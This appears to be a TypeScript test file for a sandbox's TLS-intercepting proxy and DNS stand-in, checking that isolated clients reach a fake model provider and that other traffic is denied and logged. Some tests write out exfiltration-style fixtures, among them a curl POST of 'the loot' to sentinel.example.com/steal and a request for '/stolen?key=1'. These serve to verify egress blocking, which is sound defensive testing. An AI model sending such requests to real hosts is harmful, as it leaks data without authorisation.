// The front, where TLS ends: clients that no preload reaches, in the network of a trial and through its proxy.
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { createServer, request } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { text } from '../src/core/index.ts';
import { type Authority, authority, NAME_HASH } from '../src/live/certificates.ts';
import { type Collector, startCollector } from '../src/live/collector.ts';
import { type Front, startFront } from '../src/live/front.ts';
import { type Isolation, isolation, startWorker } from '../src/live/index.ts';
import { answerTo, startNames } from '../src/live/network.ts';
import { type Provider, startProvider } from '../src/provider/index.ts';
import { build } from './support/build.ts';
import { openShelf } from './support/lay-out.ts';
import { agent, GUARDS, job, until } from './support/live/trial.ts';

const shelf = openShelf('live-front');
vi.setConfig({ testTimeout: 30_000, hookTimeout: 120_000 });
const best = await isolation();
const KINDS: readonly Isolation[] = best.kind === 'namespace' ? [best, GUARDS] : [GUARDS];
const has = (program: string): boolean => {
  try {
    execFileSync('sh', ['-c', `command -v ${program}`], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
};

const BODY = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hello' }] });
const ASKING = `POST /v1/chat/completions HTTP/1.1\r\nhost: api.openai.com\r\nconnection: close\r\ncontent-length: ${BODY.length}\r\n\r\n${BODY}`;

describe('the front by itself', () => {
  let provider: Provider;
  let collector: Collector;
  let front: Front;
  let trusted: Authority;
  beforeAll(async () => {
    trusted = await authority();
    provider = await startProvider({ script: { steps: [text('word {{nonce}}')] }, nonce: 'xyz', cap: 100, began: () => 0 });
    collector = await startCollector(shelf.layOut({}), Date.now());
    front = await startFront({
      authority: trusted,
      provider: provider.port,
      gate: collector.gate,
      hosts: ['^api\\.openai\\.com$'],
      nameOf: () => undefined,
    });
  });
  afterAll(() => Promise.all([front.close(), provider.close(), collector.close()]));

  /** A tunnel to a host, as a client of a proxy opens it. */
  const tunnel = (to: string): Promise<ReturnType<typeof connect>> =>
    new Promise((resolve, reject) => {
      const socket = connect(front.port, '127.0.0.1', () => socket.write(`CONNECT ${to} HTTP/1.1\r\nhost: ${to}\r\n\r\n`));
      socket.once('error', reject);
      socket.once('data', head => (String(head).startsWith('HTTP/1.1 200') ? resolve(socket) : reject(new Error(String(head)))));
    });
  const secure = async (to: string, options: { readonly ALPNProtocols?: string[]; readonly ca?: string } = {}): Promise<TLSSocket> => {
    const socket = await tunnel(to);
    const [host = ''] = to.split(':');
    const tls = connectTls({ socket, servername: /^[\d.]+$/.test(host) ? '' : host, host, ca: trusted.certificate, ...options });
    await new Promise((resolve, reject) => tls.once('secureConnect', resolve).once('error', reject));
    return tls;
  };
  const all = (socket: NodeJS.ReadableStream): Promise<string> =>
    new Promise((resolve, reject) => {
      let said = '';
      socket.on('data', chunk => {
        said += String(chunk);
      });
      socket.on('end', () => resolve(said)).on('error', reject);
    });
  const listed = async (host: string): Promise<unknown> => {
    await until(() => collector.egress().some(one => one.host === host));
    return collector.egress().find(one => one.host === host);
  };

  test('TLS through a tunnel: a certificate for the host that verifies, HTTP/1.1 chosen of two, the answer of the stand-in', async () => {
    const socket = await secure('api.openai.com:443', { ALPNProtocols: ['h2', 'http/1.1'] });
    expect([socket.authorized, socket.alpnProtocol]).toEqual([true, 'http/1.1']);
    expect(socket.getPeerCertificate().subjectaltname).toBe('DNS:api.openai.com');
    socket.write(ASKING);
    expect(await all(socket)).toContain('word xyz');
    expect(front.wayOf(provider.exchanges.at(-1)?.clientPort)).toBe('proxy');
  });

  test('an address instead of a name', async () => {
    const socket = await secure('192.0.2.9:443');
    expect(socket.getPeerCertificate().subjectaltname).toBe('IP Address:192.0.2.9');
    socket.write('GET /stolen?key=1 HTTP/1.1\r\nhost: 192.0.2.9\r\n\r\n');
    expect(await listed('192.0.2.9')).toMatchObject({ url: 'https://192.0.2.9/stolen?key=1', outcome: 'denied' });
    socket.destroy();
  });

  test('a client that trusts others only, or speaks HTTP/2 only, fails and is listed', async () => {
    await expect(secure('distrust.example.com:443', { ca: '' })).rejects.toThrow(/unable to verify|self-signed|issuer/);
    expect(await listed('distrust.example.com')).toMatchObject({ port: 443, outcome: 'denied' });
    await expect(secure('two.example.com:443', { ALPNProtocols: ['h2'] })).rejects.toThrow(/no application protocol/i);
    expect(await listed('two.example.com')).toMatchObject({ port: 443, outcome: 'denied' });
  });

  test('a reset of the provider is a reset for the client, and a client that leaves is seen to leave', async () => {
    provider.play({ steps: [{ kind: 'reset' }, { kind: 'hang' }] });
    const first = await secure('api.openai.com:443');
    first.write(ASKING);
    await expect(all(first)).rejects.toThrow(/ECONNRESET/);
    const second = await secure('api.openai.com:443');
    const before = provider.exchanges.length;
    second.write(ASKING);
    expect(await until(() => provider.exchanges.length > before)).toBe(true);
    expect(provider.exchanges.at(-1)?.goneAt).toBeUndefined();
    second.destroy();
    expect(await until(() => provider.exchanges.at(-1)?.goneAt !== undefined)).toBe(true);
    provider.play({ steps: [text('word {{nonce}}')] });
  });

  test('requests in clear: one connection for several hosts, and what is on this machine is let through', async () => {
    const own = createServer((asked, response) => response.end(`own ${asked.url}`));
    await new Promise<void>(resolve => own.listen(0, '127.0.0.1', resolve));
    const { port } = own.address() as AddressInfo;
    const ask = (url: string, method = 'GET', body = ''): Promise<string> =>
      new Promise((resolve, reject) => {
        const headers = { host: new URL(url).host };
        const asked = request({ host: '127.0.0.1', port: front.port, path: url, method, headers }, answer => resolve(all(answer)));
        asked.on('error', reject).end(body);
      });
    expect(await ask('https://api.openai.com/v1/chat/completions', 'POST', BODY)).toContain('word xyz');
    expect(await ask(`http://127.0.0.1:${port}/x`)).toBe('own /x');
    await expect(ask('http://clear.example.com/y', 'POST', 'loot')).rejects.toThrow(/hang up|ECONNRESET/);
    expect(await listed('clear.example.com')).toMatchObject({ url: 'http://clear.example.com/y', body: 'loot', outcome: 'denied' });
    const through = await tunnel(`localhost:${port}`);
    through.write('GET /z HTTP/1.0\r\n\r\n');
    expect(await all(through)).toContain('own /z');
    own.close();
  });

  test('nonsense, silence and half a greeting hurt nobody', async () => {
    for (const first of ['agent-ready ', '\u0016\u0003\u0001\u0000\u0005hello', 'GET / HTTP/1.1\r\n\r\n', '\r\n\r\n', '']) {
      const socket = connect(front.port, '127.0.0.1', () => socket.end(first));
      socket.on('error', () => {});
      socket.resume();
      await new Promise(resolve => socket.once('close', resolve));
    }
    expect((await secure('api.openai.com:443')).authorized).toBe(true);
  });
});

describe('names', () => {
  test('every name has an address of its own, this machine is itself, and a name without a connection is listed', async () => {
    const names = await startNames(Date.now(), 0);
    const socket = createSocket('udp4');
    const ask = (name: string, type = 1): Promise<Buffer> =>
      new Promise(resolve => {
        socket.once('message', resolve);
        socket.send(question(name, type), names.port, '127.0.0.1');
      });
    const addressOf = async (name: string): Promise<string> => (await ask(name)).subarray(-4).join('.');
    const one = await addressOf('API.openai.com');
    expect(one).toMatch(/^198\.18\./);
    expect(await addressOf('api.openai.com')).toBe(one);
    expect(await addressOf('secret.example.com')).not.toBe(one);
    expect(await addressOf('app.localhost')).toBe('127.0.0.1');
    expect((await ask('api.openai.com', 28)).readUInt16BE(6)).toBe(0);
    expect(names.nameOf(one)).toBe('api.openai.com');
    expect(names.egress()).toEqual([{ at: expect.any(Number), host: 'secret.example.com', port: 53, outcome: 'denied' }]);
    socket.close();
    names.close();
  });

  test('what is no question has no answer', () => {
    const whole = question('a.example.com', 1);
    for (let length = 0; length < whole.length; length++) expect(answerTo(whole.subarray(0, length), () => [1, 2, 3, 4])).toBeUndefined();
    expect(answerTo(Buffer.alloc(600, 0xff), () => [1, 2, 3, 4])).toBeUndefined();
    expect(
      answerTo(whole, () => [1, 2, 3, 4])
        ?.subarray(-4)
        .join('.'),
    ).toBe('1.2.3.4');
  });
});

function question(name: string, type: number): Buffer {
  const labels = name.split('.').flatMap(label => [label.length, ...Buffer.from(label)]);
  return Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, type, 0, 1]);
}

test.runIf(has('openssl'))('the authority has the hash under which OpenSSL looks for it', async () => {
  const { certificate } = await authority();
  expect(execFileSync('openssl', ['x509', '-noout', '-hash'], { input: certificate }).toString().trim()).toBe(NAME_HASH);
});

/** Runs a program as a child of the agent, which answers with what it printed. */
const running = (argv: readonly string[], env: string): string =>
  agent({
    extra: `import { execFile } from 'node:child_process';
      const run = message => new Promise((ok, no) => execFile(${JSON.stringify(argv[0])}, ${JSON.stringify(argv.slice(1))}.map(arg => arg.replace('BODY', () => JSON.stringify({ model: 'm', messages: [{ role: 'user', content: message }] }))), { env: ${env} }, (error, stdout, stderr) => (error ? no(new Error(stderr)) : ok(stdout))));`,
    handle: 'reply(200, { reply: JSON.parse(await run(message)).choices[0].message.content });',
  });
const CURL = ['curl', '-sS', '-m', '5', '-d', 'BODY', 'https://api.openai.com/v1/chat/completions'];
/** Node with another way to do TLS than our preload knows: its options are taken away. */
const NODE = [
  'node',
  '--input-type=module',
  '-e',
  `const { request } = await import('node:https');
   const { env, argv } = process;
   const { connect } = await import('node:net');
   const ask = more => { const r = request('https://api.openai.com/v1/chat/completions', { method: 'POST', minVersion: 'TLSv1.3', ...more }, a => a.pipe(process.stdout)); r.on('error', e => { console.error(e); process.exit(1); }); r.end(argv[1]); };
   const proxy = env.https_proxy;
   if (proxy === undefined) ask({});
   else { const p = new URL(proxy); const socket = connect(p.port, p.hostname, () => socket.write('CONNECT api.openai.com:443 HTTP/1.1\\r\\n\\r\\n')); socket.once('data', () => ask({ socket, agent: false })); }`,
  'BODY',
];
const PYTHON = [
  'python3',
  '-I',
  '-c',
  'import sys, urllib.request; print(urllib.request.urlopen("https://api.openai.com/v1/chat/completions", sys.argv[1].encode(), timeout=5).read().decode())',
  'BODY',
];

describe.each(KINDS)('children that no preload reaches ($kind)', kind => {
  beforeAll(build);
  const unpreloaded = '{ ...process.env, NODE_OPTIONS: "", PYTHONPATH: "" }';
  const clients: readonly (readonly [string, boolean, readonly string[], string])[] = [
    ['curl', has('curl'), CURL, unpreloaded],
    ['Node', true, NODE, unpreloaded],
    ['Python', has('python3'), PYTHON, unpreloaded],
    // What is started with an environment of its own, as servers of tools are, knows neither proxy nor authority: the network must do.
    ...(kind.kind === 'namespace'
      ? ([
          ['curl, without any variable', has('curl'), CURL, '{ PATH: process.env.PATH }'],
          ['Python, without any variable', has('python3'), PYTHON, '{ PATH: process.env.PATH }'],
        ] as const)
      : []),
  ];
  test.each(clients.filter(([, there]) => there))('%s reaches the stand-in', async (_, __, argv, env) => {
    const record = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': running(argv, env) }) }), { isolation: kind });
    expect(record.problem).toBeUndefined();
    expect(record.treatment.replies[0]?.text).toBe(`word ${record.treatment.nonce}`);
    expect(record.ways.find(way => way.used > 0)?.name).toBe(kind.kind === 'namespace' ? 'network' : 'proxy');
    expect(record.treatment.egress).toEqual([]);
  });

  test.runIf(kind.kind === 'namespace')('a client that brings its own list of authorities, and no way for ours, is listed', async () => {
    const handle = 'await run(message).catch(() => {}); reply(200, { reply: await ask(message) });';
    const code = running(NODE, '{ PATH: process.env.PATH }').replace(/reply\(200, \{ reply: JSON\.parse.*?\}\);/, handle);
    const record = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': code }) }), { isolation: kind });
    expect(record.problem).toBeUndefined();
    expect(record.treatment.egress).toMatchObject([{ host: 'api.openai.com', port: 443, outcome: 'denied' }]);
  });

  test.runIf(has('curl'))('and what they send elsewhere is listed', async () => {
    const curl = ['curl', '-sS', '-m', '5', '-d', 'the loot', 'https://sentinel.example.com/steal'];
    const handle = 'await run(message).catch(() => {}); reply(200, { reply: await ask(message) });';
    const code = running(curl, unpreloaded).replace(/reply\(200, \{ reply: JSON\.parse.*?\}\);/, handle);
    const record = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': code }) }), { isolation: kind });
    expect(record.treatment.egress).toMatchObject([
      { method: 'POST', url: 'https://sentinel.example.com/steal', body: 'the loot', outcome: 'denied' },
    ]);
  });
});
